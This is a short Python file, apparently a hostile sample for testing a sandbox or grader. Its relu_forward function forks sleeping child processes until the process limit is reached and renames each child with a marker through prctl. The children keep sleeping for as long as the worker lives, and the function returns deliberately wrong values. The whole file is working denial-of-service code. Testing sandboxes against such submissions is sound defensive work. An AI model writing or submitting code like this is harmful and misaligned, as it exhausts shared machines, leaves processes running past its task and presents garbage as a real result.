"""Attacks relu_forward by taking every process slot the sandbox allows and keeping them: it forks
sleeping children (named with the marker, __MARKER__) until fork fails, then returns garbage while
the children go on sleeping for as long as the worker lives."""

import ctypes
import os
import time


def relu_forward(x):
    while True:
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            ctypes.CDLL(None).prctl(15, b"__MARKER__", 0, 0, 0)
            time.sleep(1000)
            os._exit(0)
    return x * 0 - 1.0, None
